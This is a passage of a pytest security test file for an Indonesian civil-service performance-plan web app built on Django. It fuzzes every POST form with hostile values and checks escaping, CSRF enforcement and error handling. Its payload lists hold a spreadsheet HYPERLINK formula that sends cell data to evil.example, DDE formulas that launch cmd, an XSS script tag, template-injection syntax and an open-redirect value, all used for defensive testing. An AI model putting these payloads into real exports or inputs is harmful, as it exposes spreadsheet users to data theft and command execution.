"""Every form of the app under hostile input (issue 8, security pass).

The table `AKSI` names every URL that accepts a POST, who may use it, who may not, and one
valid submission. Each field of that submission is replaced in turn by each hostile value
(NUL bytes, an RTL override, spreadsheet formulas, template syntax, HTML, 100k characters,
numbers out of range, impossible dates, ids that do not exist). The answer must never be a
500; a refused submission must change no row; what the app echoes must be escaped and never
evaluated. Whole-request attacks (a 3 MB body, over 1,000 fields, a stray file) answer 400 or
are ignored, CSRF is enforced on every POST URL, and read-only URLs refuse POST.

`test_every_url_is_known` walks the URL resolver so that a new URL cannot slip past: add it
to `KWARGS` (and to `AKSI` when it accepts POST).

Each request runs in a savepoint that is rolled back, so every payload meets the same state.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
import datetime
import io
import re
from types import SimpleNamespace
from urllib.parse import urlencode, urlsplit

from django.apps import apps
from django.contrib.auth.tokens import default_token_generator
from django.contrib.messages import constants as message_levels
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from django_otp.plugins.otp_totp.models import TOTPDevice
import openpyxl
import pytest

from accounts.models import UnitKerja
from accounts.tests.factories import PASSWORD, buat_pegawai
from kpi import services as kpi_services
from penugasan import services as penugasan_services
from penugasan.models import AnggotaPenugasan, JenisPenugasan
from periode.models import Periode, ProfilRegulasi
from periode.pimpinan_unit import versi_pimpinan
from periode.services import beri_dispensasi, tetapkan_supervisi
from skp.models import AsalRencanaKinerja, Aspek, RencanaKinerja, Skp
from skp.services import drafting, uraian_tugas
from skp.services.dokumen import minta_batch_dokumen
from skp.services.komentar import komentar_pemberi_tugas, tandai_selesai
from skp.services.lampiran import tambah_butir_lampiran, tambah_preset_lampiran
from skp.services.perilaku import tambah_preset
from skp.services.workflow import ajukan_skp, tambah_komentar
from skp.tests.bantuan_workflow import isi_lengkap, revisi
from skp.tests.drafting_helpers import kuantitas, skp_atasan_dengan_rk, tambah_rk
from skp.verifikasi import buat_kode

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

# By the kind of value a field takes (guessed from the valid submission), so that each
# field meets the hostile values that can get past its first check.
TEKS = {
    "nul": "Laporan\x00kinerja",
    "rtl": "Laporan \u202ekinerja\u202c",
    "formula": FORMULAS[0],
    "template": "zz{{ 7*7 }}zz {% debug %}",
    "html": SCRIPT,
    "100k": "x" * 100_000,
    "redirect": "//evil.example/",
}
ANGKA = {
    "nul": "1\x002",
    "1e309": "1e309",
    "-1": "-1",
    "20 digit": "99999999999999999999",
    "NaN": "NaN",
    "id fiktif": "2147483000",
    "100k digit": "9" * 100_000,
}
TANGGAL = {
    "nul": "2026-01-01\x00",
    "30 Feb": "2026-02-30",
    "ngawur": "31/12/99999",
    "tahun 0": "0000-01-01",
    "100k digit": "9" * 100_000,
}
HOSTILE = {**TEKS, **ANGKA, **TANGGAL}
DISPLAY = {"rtl", "formula", "template", "html"}


def hostile_for(value: str) -> dict[str, str]:
    if re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):
        return TANGGAL
    if re.fullmatch(r"[\d.,–-]+", value):
        return ANGKA
    return TEKS


@pytest.fixture
def dunia(cast):
    """Objects for every URL: the pegawai's Draf SKP (two RK, IKI of two aspects) under the
    atasan's SKP, pegawai_lain's submitted SKP, a matriks with members, columns and a cell,
    a KPI, a dispensasi, a batch job and an uraian tugas."""
    p = cast.periode
    skp_ketua, rk_ketua = skp_atasan_dengan_rk(cast)
    rk_ketua2 = tambah_rk(
        skp_ketua,
        teks="Tersedianya data terpadu universitas",
        intervensi_teks_bebas="Rencana kinerja Wakil Rektor",
    )
    skp = drafting.mulai_skp(cast.pegawai, p, oleh=cast.pegawai)
    rk = tambah_rk(skp, intervensi_id=rk_ketua.pk)
    rk2 = tambah_rk(skp, teks="Terlaksananya layanan data", intervensi_id=rk_ketua2.pk)
    iki = rk.indikator.get()
    iki2 = drafting.tambah_indikator(
        rk,
        oleh=cast.pegawai,
        isian=drafting.IsianIndikator(
            aspek=Aspek.KUALITAS, teks="Laporan diterima", target_teks="Tanpa revisi"
        ),
    )
    skp_lain = drafting.mulai_skp(cast.pegawai_lain, p, oleh=cast.pegawai_lain)
    tambah_rk(skp_lain, intervensi_teks_bebas="Rencana kinerja Kepala Unit B")
    ajukan_skp(skp_lain, oleh=cast.pegawai_lain)
    # Two conversations on it (issue 17.7): one open, one resolved.
    catatan = tambah_komentar(skp_lain, oleh=cast.atasan_lain, teks="Rinci waktunya.")
    catatan_selesai = tambah_komentar(skp_lain, oleh=cast.atasan_lain, teks="Sebutkan satuannya.")
    tandai_selesai(catatan_selesai, oleh=cast.atasan_lain)
    ketua = cast.atasan_langsung
    matriks = kpi_services.buat_matriks(
        periode=p,
        nama="Tim Unit A",
        ketua=ketua,
        unit_kerja=cast.unit_a,
        isi_anggota_unit=True,
        oleh=ketua,
    )
    anggota_lain = kpi_services.tambah_anggota(matriks, cast.pegawai_lain, oleh=ketua)
    kolom = kpi_services.tambah_kolom(matriks, rencana_kinerja=rk_ketua, oleh=ketua)
    anggota = matriks.anggota.get(pegawai=cast.pegawai)
    kpi_services.simpan_sel(
        matriks,
        anggota,
        kolom,
        is_na=False,
        oleh=ketua,
        peran_hasil=[
            kpi_services.DataPeranHasil("Tersusunnya laporan layanan", indikator="Jumlah laporan")
        ],
    )
    # The cell applied, the pegawai's own target, then a cell change: a matriks proposal
    # (conflict) beside that RK, for the notice's buttons.
    kpi_services.terapkan_ke_skp(matriks, oleh=ketua)
    rk_matriks = RencanaKinerja.objects.get(skp=skp, asal=AsalRencanaKinerja.MATRIKS)
    iki_matriks = rk_matriks.indikator.get()
    drafting.ubah_indikator(
        iki_matriks,
        oleh=cast.pegawai,
        isian=drafting.IsianIndikator(
            aspek=Aspek.KUANTITAS, teks=iki_matriks.teks, target_min=3, satuan="laporan"
        ),
    )
    kpi_services.simpan_sel(
        matriks,
        anggota,
        kolom,
        is_na=False,
        oleh=ketua,
        peran_hasil=[
            kpi_services.DataPeranHasil(
                "Tersusunnya laporan layanan",
                indikator="Jumlah laporan",
                target=5,
                satuan="laporan",
            )
        ],
    )
    kpi_services.terapkan_ke_skp(matriks, oleh=ketua)
    kpi = kpi_services.buat_kpi(
        unit=cast.unit_a, periode=p, pernyataan="Semua server terbackup", oleh=ketua
    )
    dispensasi = beri_dispensasi(
        p,
        oleh=cast.admin,
        tahap="penyusunan",
        alasan="Cuti melahirkan",
        berlaku_sampai=p.penyusunan_selesai + datetime.timedelta(days=5),
        pegawai=cast.pegawai,
    )
    batch = minta_batch_dokumen(oleh=cast.admin, unit=cast.root, periode=p)
    uraian_tugas.simpan_uraian_tugas(cast.pegawai, oleh=cast.pegawai, teks="Mengelola server")
    lalu = Periode.objects.create(
        tahun=p.tahun - 1,
        tanggal_mulai=datetime.date(p.tahun - 1, 1, 1),
        tanggal_selesai=datetime.date(p.tahun - 1, 12, 31),
        penyusunan_mulai=datetime.date(p.tahun - 1, 1, 2),
        penyusunan_selesai=datetime.date(p.tahun - 1, 1, 31),
        validasi_mulai=datetime.date(p.tahun - 1, 1, 2),
        validasi_selesai=datetime.date(p.tahun - 1, 2, 28),
    )
    skp_lalu = Skp.objects.create(pegawai=cast.pegawai, periode=lalu)
    # A 6/2022 periode open now, for the Perilaku Kerja and Lampiran pages (the cast's periode
    # is 8/2021).
    enam = Periode.objects.create(
        tahun=p.tahun + 2,
        profil_regulasi=ProfilRegulasi.PERMENPANRB_6_2022,
        tanggal_mulai=datetime.date(p.tahun + 2, 1, 1),
        tanggal_selesai=datetime.date(p.tahun + 2, 12, 31),
        penyusunan_mulai=p.penyusunan_mulai,
        penyusunan_selesai=p.penyusunan_selesai,
        validasi_mulai=p.validasi_mulai,
        validasi_selesai=p.validasi_selesai,
    )
    tetapkan_supervisi(
        cast.pegawai, enam, atasan_langsung=cast.atasan_langsung, atasan_penilai=cast.atasan_penilai
    )
    skp6 = drafting.mulai_skp(cast.pegawai, enam, oleh=cast.pegawai)
    preset_perilaku = tambah_preset(oleh=cast.admin, nilai="akuntabel", teks="Hadir tepat waktu.")
    tambah_preset(oleh=cast.admin, nilai="akuntabel", teks="Menjaga aset kantor.")
    isi_lengkap(skp_lalu)
    butir = tambah_butir_lampiran(
        skp6, oleh=cast.pegawai, jenis="dukungan_sumber_daya", teks="Anggaran DIPA unit"
    )
    butir2 = tambah_butir_lampiran(
        skp6, oleh=cast.pegawai, jenis="dukungan_sumber_daya", teks="Akses ke server"
    )
    preset = tambah_preset_lampiran(
        oleh=cast.admin, jenis="konsekuensi", teks="Dasar tunjangan kinerja"
    )
    unit_kosong = UnitKerja.objects.create(nama="Divisi Kosong", induk=cast.unit_b)
    # Who grants the admin kepegawaian role (issue 16 i).
    superuser = buat_pegawai("Super Sistem", unit_kerja=cast.root, is_superuser=True, is_staff=True)
    penugasan = _penugasan(cast)
    return SimpleNamespace(
        **vars(cast),
        **penugasan,
        skp=skp,
        rk=rk,
        rk2=rk2,
        iki=iki,
        iki2=iki2,
        skp_ketua=skp_ketua,
        rk_ketua=rk_ketua,
        skp_lain=skp_lain,
        catatan=catatan,
        catatan_selesai=catatan_selesai,
        matriks=matriks,
        anggota=anggota,
        anggota_lain=anggota_lain,
        kolom=kolom,
        kpi=kpi,
        dispensasi=dispensasi,
        batch=batch,
        rk_matriks=rk_matriks,
        skp6=skp6,
        butir=butir,
        butir2=butir2,
        preset=preset,
        preset_perilaku=preset_perilaku,
        unit_kosong=unit_kosong,
        superuser=superuser,
    )


def _penugasan(cast) -> dict:
    """A squad by the Wakil Rektor: pegawai's row waits for atasan_langsung; pegawai_lain's,
    agreed, waits to be accepted into their submitted SKP. An opportunity of unit B, with
    pegawai's request agreed by their pejabat penilai, waiting for the opener."""
    p, tahun = cast.periode, cast.periode.tahun
    tugas = penugasan_services.buat_penugasan(
        p,
        penugasan_services.IsianTugas(
            judul="Panitia UTBK",
            hasil="Terlaksananya tugas Panitia UTBK",
            mulai=datetime.date(tahun, 4, 1),
            selesai=datetime.date(tahun, 6, 30),
            anggota=[(cast.pegawai, "Ketua"), (cast.pegawai_lain, "Anggota")],
        ),
        oleh=cast.atasan_penilai,
    )
    baris = AnggotaPenugasan.objects.get(penugasan=tugas, pegawai=cast.pegawai)
    baris_lain = penugasan_services.putuskan_penilai(
        AnggotaPenugasan.objects.get(penugasan=tugas, pegawai=cast.pegawai_lain),
        oleh=cast.atasan_lain,
        setuju=True,
    )
    peluang = penugasan_services.buat_penugasan(
        p,
        penugasan_services.IsianTugas(
            jenis=JenisPenugasan.PELUANG,
            kuota=3,
            judul="Tim Helpdesk PMB",
            hasil="Terlayaninya calon mahasiswa",
            mulai=datetime.date(tahun, 1, 1),
            selesai=datetime.date(tahun, 12, 31),
        ),
        oleh=cast.atasan_lain,
    )
    relawan = penugasan_services.putuskan_penilai(
        penugasan_services.ajukan_diri(peluang, oleh=cast.pegawai),
        oleh=cast.atasan_langsung,
        setuju=True,
    )
    # The Wakil Rektor, atasan_langsung's own pejabat penilai, assigns him work: straight
    # into his draft, where the Wakil Rektor opened a conversation on it.
    langsung = penugasan_services.buat_penugasan(
        p,
        penugasan_services.IsianTugas(
            judul="Panitia PPG",
            hasil="Terlaksananya tugas Panitia PPG",
            mulai=datetime.date(tahun, 4, 1),
            selesai=datetime.date(tahun, 6, 30),
            anggota=[(cast.atasan_langsung, "Anggota")],
        ),
        oleh=cast.atasan_penilai,
    )
    baris_rk = AnggotaPenugasan.objects.get(penugasan=langsung)
    catatan_pemberi = komentar_pemberi_tugas(
        baris_rk.rencana_kinerja, oleh=cast.atasan_penilai, teks="Kirim laporan tiap Jumat."
    )
    return {
        "tugas": tugas,
        "baris_tugas": baris,
        "baris_rk": baris_rk,
        "catatan_pemberi": catatan_pemberi,
        "baris_skp": baris_lain,
        "peluang": peluang,
        "relawan": relawan,
    }


# --- The URL table ----------------------------------------------------------------------------

# Path arguments for every URL of the project, by URL name.
KWARGS: dict[str, Callable] = {
    "skp:detail": lambda w: {"pk": w.skp.pk},
    "skp:rk_tambah": lambda w: {"pk": w.skp.pk, "jenis": "utama"},
    "skp:rk_ubah": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk.pk},
    "skp:rk_hapus": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk2.pk},
    "skp:rk_pindah": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk.pk},
    "skp:rk_kabar_tutup": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk_matriks.pk},
    "skp:rk_usulan_terima": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk_matriks.pk},
    "skp:iki_tambah": lambda w: {"pk": w.skp.pk, "rk_pk": w.rk.pk},
    "skp:iki_ubah": lambda w: {"pk": w.skp.pk, "iki_pk": w.iki.pk},
    "skp:iki_hapus": lambda w: {"pk": w.skp.pk, "iki_pk": w.iki2.pk},
    "skp:iki_pindah": lambda w: {"pk": w.skp.pk, "iki_pk": w.iki.pk},
    "skp:salin": lambda w: {"pk": w.skp.pk},
    "skp:model_form": lambda w: {"pk": w.skp.pk},
    "skp:pendekatan": lambda w: {"pk": w.skp6.pk},
    "skp:uraian_tugas": lambda w: {"pegawai_pk": w.pegawai.pk},
    "periode:periode_ubah": lambda w: {"pk": w.periode.pk},
    "periode:dispensasi_cabut": lambda w: {"pk": w.dispensasi.pk},
    "skp:ajukan": lambda w: {"pk": w.skp.pk},
    "skp:setujui": lambda w: {"pk": w.skp_lain.pk},
    "skp:kembalikan": lambda w: {"pk": w.skp_lain.pk},
    "skp:tinjau": lambda w: {"pk": w.skp_lain.pk},
    "skp:komentar": lambda w: {"pk": w.skp_lain.pk},
    "skp:komentar_balas": lambda w: {"pk": w.skp_lain.pk, "komentar_pk": w.catatan.pk},
    "skp:komentar_selesai": lambda w: {"pk": w.skp_lain.pk, "komentar_pk": w.catatan.pk},
    "skp:komentar_buka": lambda w: {"pk": w.skp_lain.pk, "komentar_pk": w.catatan_selesai.pk},
    "skp:riwayat": lambda w: {"pk": w.skp_lain.pk},
    "skp:rekap": lambda w: {"tahun": w.periode.tahun},
    "skp:rekap_unduh": lambda w: {"tahun": w.periode.tahun},
    "skp:pdf": lambda w: {"pk": w.skp.pk},
    "skp:xlsx": lambda w: {"pk": w.skp.pk},
    "skp:versi_pdf": lambda w: {"pk": w.skp_lain.pk, "nomor": 1},
    "skp:versi_xlsx": lambda w: {"pk": w.skp_lain.pk, "nomor": 1},
    "skp:batch_status": lambda w: {"pk": w.batch.pk},
    "skp:batch_unduh": lambda w: {"pk": w.batch.pk},
    "skp:lampiran_daftar": lambda w: {"pk": w.skp6.pk, "jenis": "dukungan_sumber_daya"},
    "skp:lampiran_tambah": lambda w: {"pk": w.skp6.pk, "jenis": "dukungan_sumber_daya"},
    "skp:lampiran_preset": lambda w: {"pk": w.skp6.pk, "jenis": "konsekuensi"},
    "skp:lampiran_ubah": lambda w: {"pk": w.skp6.pk, "butir_pk": w.butir.pk},
    "skp:lampiran_hapus": lambda w: {"pk": w.skp6.pk, "butir_pk": w.butir2.pk},
    "skp:lampiran_pindah": lambda w: {"pk": w.skp6.pk, "butir_pk": w.butir.pk},
    "skp:preset_lampiran_ubah": lambda w: {"pk": w.preset.pk},
    "skp:preset_lampiran_hapus": lambda w: {"pk": w.preset.pk},
    "skp:preset_lampiran_pindah": lambda w: {"pk": w.preset.pk},
    "kpi:matriks": lambda w: {"pk": w.matriks.pk},
    "kpi:anggota_tambah": lambda w: {"pk": w.matriks.pk},
    "kpi:anggota_hapus": lambda w: {"pk": w.matriks.pk, "anggota_pk": w.anggota_lain.pk},
    "kpi:kolom_tambah": lambda w: {"pk": w.matriks.pk},
    "kpi:kolom_hapus": lambda w: {"pk": w.matriks.pk, "kolom_pk": w.kolom.pk},
    "kpi:sel": lambda w: {"pk": w.matriks.pk, "anggota_pk": w.anggota.pk, "kolom_pk": w.kolom.pk},
    "kpi:sel_ubah": lambda w: {
        "pk": w.matriks.pk,
        "anggota_pk": w.anggota.pk,
        "kolom_pk": w.kolom.pk,
    },
    "kpi:terapkan": lambda w: {"pk": w.matriks.pk},
    "kpi:matriks_xlsx": lambda w: {"pk": w.matriks.pk},
    "kpi:matriks_pdf": lambda w: {"pk": w.matriks.pk},
    "kpi:ubah": lambda w: {"pk": w.kpi.pk},
    "kpi:hapus": lambda w: {"pk": w.kpi.pk},
    "skp:perilaku_baris": lambda w: {"pk": w.skp6.pk, "nomor": 2},
    "skp:perilaku_ubah": lambda w: {"pk": w.skp6.pk, "nomor": 2},
    "skp:preset_perilaku_ubah": lambda w: {"preset_pk": w.preset_perilaku.pk},
    "skp:preset_perilaku_hapus": lambda w: {"preset_pk": w.preset_perilaku.pk},
    "skp:preset_perilaku_pindah": lambda w: {"preset_pk": w.preset_perilaku.pk},
    # A code our key signed, of an SKP that exists (its content fingerprint is made up).
    "skp:verifikasi_kode": lambda w: {"kode": buat_kode(w.skp.pk, bytes(32))},
    # Roster import (issue 3): listed so the table holds once that branch lands.
    "kepegawaian:pegawai_detail": lambda w: {"nip": w.pegawai.nip},
    "kepegawaian:pegawai_ubah": lambda w: {"nip": w.pegawai.nip},
    "kepegawaian:pegawai_kata_sandi": lambda w: {"nip": w.pegawai.nip},
    "kepegawaian:pegawai_mutasi": lambda w: {"nip": w.pegawai.nip},
    "kepegawaian:pegawai_status": lambda w: {"nip": w.pegawai.nip},
    "kepegawaian:supervisi_ubah": lambda w: {"nip": w.pegawai.nip, "tahun": w.periode.tahun},
    "kepegawaian:roster_ekspor": lambda w: {"tahun": w.periode.tahun},
    "kepegawaian:roster_pratinjau": lambda w: {"token": "0" * 32},
    "kepegawaian:roster_terapkan": lambda w: {"token": "0" * 32},
    "kepegawaian:roster_batal": lambda w: {"token": "0" * 32},
    "kepegawaian:roster_induk": lambda w: {"token": "0" * 32},
    "kepegawaian:unit_ubah": lambda w: {"pk": w.unit_b.pk},
    "kepegawaian:unit_hapus": lambda w: {"pk": w.unit_kosong.pk},
    "kepegawaian:unit_pimpinan": lambda w: {"pk": w.unit_a.pk},
    "kepegawaian:unit_gabung": lambda w: {"pk": w.unit_kosong.pk},
    # Password reset (issue 19): a link of the cast's pegawai, valid (it redirects to the form).
    "password_reset_confirm": lambda w: {
        "uidb64": urlsafe_base64_encode(force_bytes(w.pegawai.pk)),
        "token": default_token_generator.make_token(w.pegawai),
    },
    # Two-factor sign-in (issue 19): an admin's reset of a colleague's lost phone.
    "kepegawaian:pegawai_dua_faktor_reset": lambda w: {"nip": w.pegawai_lain.nip},
    # Penugasan (issue 18).
    "penugasan:detail": lambda w: {"pk": w.tugas.pk},
    "penugasan:tutup": lambda w: {"pk": w.peluang.pk},
    "penugasan:ikut": lambda w: {"pk": w.peluang.pk},
    "penugasan:putuskan": lambda w: {"pk": w.baris_tugas.pk},
    "penugasan:konfirmasi": lambda w: {"pk": w.relawan.pk},
    "penugasan:terima_skp": lambda w: {"pk": w.baris_skp.pk},
    "penugasan:tarik": lambda w: {"pk": w.tugas.pk},
    "penugasan:tarik_anggota": lambda w: {"pk": w.baris_tugas.pk},
    "penugasan:komentar": lambda w: {"pk": w.baris_rk.pk},
    "penugasan:komentar_balas": lambda w: {
        "pk": w.baris_rk.pk,
        "komentar_pk": w.catatan_pemberi.pk,
    },
}
TANPA_ARGUMEN = lambda w: {}  # noqa: E731


@dataclass(frozen=True)
class Aksi:
    """A URL that accepts POST: who may use it, who may not, and one valid submission."""

    name: str
    allowed: str  # a cast role, or "anon"
    other: str  # a role that is refused (403/404, or the login redirect)
    data: Callable = lambda w: {}
    post_only: bool = True
    files: tuple[str, ...] = field(default=())
    # The valid submission's answer: 302, or 404 where the URL needs state the table cannot
    # build (an upload token that lives in another session).
    baseline: int = 302
    # What a successful submission answers (a page shown once instead of a redirect).
    sukses: tuple[int, ...] = (301, 302)

    def url(self, w) -> str:
        return reverse(self.name, kwargs=KWARGS.get(self.name, TANPA_ARGUMEN)(w))


def _periode_baru(w) -> dict:
    t = w.periode.tahun + 1
    return {
        "tahun": str(t),
        "profil_regulasi": "permenpanrb_8_2021",
        "tanggal_mulai": f"{t}-01-01",
        "tanggal_selesai": f"{t}-12-31",
        "penyusunan_mulai": f"{t}-01-02",
        "penyusunan_selesai": f"{t}-01-31",
        "validasi_mulai": f"{t}-01-02",
        "validasi_selesai": f"{t}-02-28",
    }


def _periode_ini(w) -> dict:
    p = w.periode
    data = {name: f"{getattr(p, name):%Y-%m-%d}" for name in list(_periode_baru(w))[2:]}
    return {**data, "tahun": str(p.tahun), "profil_regulasi": p.profil_regulasi}


def _pegawai_ini(w) -> dict:
    p = w.pegawai
    names = [
        "nama",
        "gelar_depan",
        "gelar_belakang",
        "jenis_asn",
        "golongan",
        "jabatan",
        "jenis_jabatan",
        "jenjang",
        "email",
    ]
    data = {name: str(getattr(p, name, "") or "") for name in names}
    return {**data, "unit_kerja": str(p.unit_kerja_id)}


def xlsx_kosong() -> SimpleUploadedFile:
    """A real (empty) workbook: what an upload field expects to receive."""
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return SimpleUploadedFile("daftar.xlsx", buffer.getvalue(), content_type=XLSX)


AKSI = [
    Aksi(
        "login",
        "anon",
        "pegawai",
        lambda w: {"username": w.pegawai.nip, "password": PASSWORD},
        post_only=False,
    ),
    Aksi("logout", "pegawai", "anon"),
    Aksi(
        "password_change",
        "pegawai",
        "anon",
        post_only=False,
        data=lambda w: {
            "old_password": PASSWORD,
            "new_password1": "Sandi-Baru-Kuat-2026x",
            "new_password2": "Sandi-Baru-Kuat-2026x",
        },
    ),
    Aksi("password_reset", "anon", "pegawai", lambda w: {"email": w.pegawai.nip}, post_only=False),
    # A link's first visit moves its token into the session and redirects, whatever the method.
    Aksi("password_reset_confirm", "anon", "pegawai", post_only=False),
    # Two-factor sign-in: a force_login session owes no code, so verifikasi sends it on and
    # pasang checks the code against the secret this very request made (a wrong code, 200).
    Aksi("dua_faktor:verifikasi", "pegawai", "anon", lambda w: {"kode": "123456"}, post_only=False),
    Aksi(
        "dua_faktor:pasang",
        "pegawai",
        "anon",
        lambda w: {"kode": "123456"},
        post_only=False,
        baseline=200,
    ),
    # Renewing codes and turning two factors off need a session verified by a code, which the
    # table cannot make: the refusal is the answer it can reach (accounts/tests/test_dua_faktor
    # covers the accepted path).
    Aksi("dua_faktor:kode_baru", "pegawai", "anon", baseline=403),
    Aksi("dua_faktor:matikan", "pegawai", "anon", baseline=403),
    Aksi(
        "kepegawaian:pegawai_dua_faktor_reset",
        "admin",
        "pegawai",
        # The colleague has an app enrolled (made here, outside the rolled-back submissions).
        lambda w: (
            TOTPDevice.objects.get_or_create(
                user=w.pegawai_lain, defaults={"name": "Aplikasi autentikator"}
            )
            and {}
        ),
    ),
    Aksi("skp:mulai", "atasan_lain", "anon", lambda w: {"periode": str(w.periode.pk)}),
    Aksi(
        "skp:rk_tambah",
        "pegawai",
        "atasan_langsung",
        lambda w: {
            "rk-utama-teks": "Tersusunnya laporan kinerja unit",
            "rk-utama-intervensi": str(w.rk_ketua.pk),
            "rk-utama-intervensi_teks_bebas": "",
            "rk-utama-iki_teks": "Jumlah laporan",
            "rk-utama-iki_target": "12",
            "rk-utama-iki_satuan": "laporan",
        },
    ),
    Aksi(
        "skp:rk_ubah",
        "pegawai",
        "pegawai_lain",
        lambda w: {
            f"rk-{w.rk.pk}-jenis": "utama",
            f"rk-{w.rk.pk}-teks": "Tersusunnya laporan layanan",
            f"rk-{w.rk.pk}-intervensi": str(w.rk_ketua.pk),
            f"rk-{w.rk.pk}-intervensi_teks_bebas": "",
            f"rk-{w.rk.pk}-revisi": str(type(w.rk).objects.get(pk=w.rk.pk).revisi),
        },
    ),
    Aksi("skp:rk_hapus", "pegawai", "atasan_langsung"),
    Aksi("skp:rk_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
    Aksi("skp:rk_kabar_tutup", "pegawai", "atasan_langsung"),
    Aksi("skp:rk_usulan_terima", "pegawai", "atasan_langsung"),
    Aksi(
        "skp:iki_tambah",
        "pegawai",
        "atasan_langsung",
        lambda w: {
            f"iki-baru-{w.rk.pk}-aspek": "waktu",
            f"iki-baru-{w.rk.pk}-teks": "Tepat waktu",
            f"iki-baru-{w.rk.pk}-target": "12",
            f"iki-baru-{w.rk.pk}-satuan": "bulan",
            f"iki-baru-{w.rk.pk}-arah": "",
        },
    ),
    Aksi(
        "skp:iki_ubah",
        "pegawai",
        "atasan_langsung",
        lambda w: {
            f"iki-{w.iki.pk}-aspek": "kuantitas",
            f"iki-{w.iki.pk}-teks": "Jumlah laporan",
            f"iki-{w.iki.pk}-target": "80–90",
            f"iki-{w.iki.pk}-satuan": "%",
            f"iki-{w.iki.pk}-arah": "tinggi",
            f"iki-{w.iki.pk}-revisi": str(type(w.iki).objects.get(pk=w.iki.pk).revisi),
        },
    ),
    Aksi("skp:iki_hapus", "pegawai", "atasan_langsung"),
    Aksi("skp:iki_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
    Aksi("skp:salin", "pegawai", "atasan_langsung"),
    Aksi("skp:model_form", "admin", "pegawai", lambda w: {"model_form": "jpt"}),
    Aksi(
        "skp:pendekatan",
        "pegawai",
        "atasan_langsung",
        lambda w: {
            "pendekatan": "kualitatif",
            "revisi": str(type(w.skp6).objects.get(pk=w.skp6.pk).revisi),
        },
    ),
    Aksi(
        "skp:uraian_tugas",
        "pegawai",
        "atasan_langsung",
        post_only=False,
        data=lambda w: {"teks": "Mengelola server\nMenyusun laporan", "kembali": "/skp/"},
    ),
    Aksi(
        "skp:lampiran_tambah",
        "pegawai",
        "atasan_langsung",
        lambda w: {
            "lampiran-dukungan_sumber_daya-teks": "Ruang kerja dan perangkat",
            "lampiran-dukungan_sumber_daya-kunci_kirim": "",
        },
    ),
    Aksi(
        "skp:lampiran_ubah",
        "pegawai",
        "pegawai_lain",
        lambda w: {
            f"lampiran-{w.butir.pk}-teks": "Anggaran BLU unit",
            f"lampiran-{w.butir.pk}-revisi": str(type(w.butir).objects.get(pk=w.butir.pk).revisi),
        },
    ),
    Aksi("skp:lampiran_hapus", "pegawai", "atasan_langsung"),
    Aksi("skp:lampiran_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
    Aksi(
        "skp:lampiran_preset",
        "pegawai",
        "atasan_langsung",
        lambda w: {"preset-konsekuensi-preset": str(w.preset.pk)},
    ),
    Aksi(
        "skp:preset_lampiran_tambah",
        "admin",
        "pegawai",
        lambda w: {
            "jenis": "skema_pertanggungjawaban",
            "teks": "Laporan bulanan",
            "is_bawaan": "on",
        },
    ),
    Aksi(
        "skp:preset_lampiran_ubah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "teks": "Dasar tunjangan kinerja unit",
            "is_bawaan": "on",
            "revisi": str(type(w.preset).objects.get(pk=w.preset.pk).revisi),
        },
    ),
    Aksi("skp:preset_lampiran_hapus", "admin", "pegawai"),
    Aksi("skp:preset_lampiran_pindah", "admin", "pegawai", lambda w: {"arah": "naik"}),
    Aksi("periode:periode_tambah", "admin", "pegawai", _periode_baru, post_only=False),
    Aksi("periode:periode_ubah", "admin", "pegawai", _periode_ini, post_only=False),
    Aksi(
        "skp:ajukan",
        "pegawai",
        "atasan_langsung",
        post_only=False,
        data=lambda w: {"revisi": revisi(w.skp)},
    ),
    Aksi(
        "skp:setujui",
        "atasan_lain",
        "pegawai_lain",
        post_only=False,
        data=lambda w: {"revisi": revisi(w.skp_lain)},
    ),
    Aksi(
        "skp:kembalikan",
        "atasan_lain",
        "pegawai_lain",
        post_only=False,
        data=lambda w: {"catatan": "Naikkan target kuantitasnya.", "revisi": revisi(w.skp_lain)},
    ),
    Aksi(
        "skp:komentar",
        "atasan_lain",
        "pegawai_lain",
        lambda w: {"butir": "", "teks": "Rinci waktunya."},
    ),
    # The pegawai answers the validator's comment; "pegawai" cannot read that SKP (404).
    Aksi(
        "skp:komentar_balas",
        "pegawai_lain",
        "pegawai",
        lambda w: {"teks": "Sudah saya rinci.", "kembali": "tinjau", "kunci_kirim": ""},
    ),
    Aksi("skp:komentar_selesai", "atasan_lain", "pegawai_lain", lambda w: {"kembali": "tinjau"}),
    Aksi("skp:komentar_buka", "atasan_lain", "pegawai_lain", lambda w: {"kembali": "detail"}),
    Aksi(
        "periode:dispensasi_tambah",
        "admin",
        "pegawai",
        lambda w: {
            "periode": str(w.periode.pk),
            "tahap": "validasi",
            "nip": w.pegawai_lain.nip,
            "unit_kerja": "",
            "alasan": "Sakit",
            "berlaku_sampai": f"{w.periode.validasi_selesai + datetime.timedelta(days=3):%Y-%m-%d}",
        },
    ),
    Aksi("periode:dispensasi_cabut", "admin", "pegawai"),
    Aksi(
        "skp:batch_minta",
        "admin",
        "pegawai",
        lambda w: {"unit_kerja": str(w.unit_a.pk), "periode": str(w.periode.pk)},
    ),
    Aksi(
        "kpi:matriks_buat",
        "atasan_lain",
        "anon",
        lambda w: {
            "nama": "Tim Unit B",
            "periode": str(w.periode.pk),
            "unit_kerja": str(w.unit_b.pk),
            "isi_anggota_unit": "on",
        },
    ),
    Aksi("kpi:anggota_tambah", "atasan_langsung", "pegawai", lambda w: {"nip": w.atasan_lain.nip}),
    Aksi("kpi:anggota_hapus", "atasan_langsung", "pegawai"),
    Aksi(
        "kpi:kolom_tambah",
        "atasan_langsung",
        "pegawai",
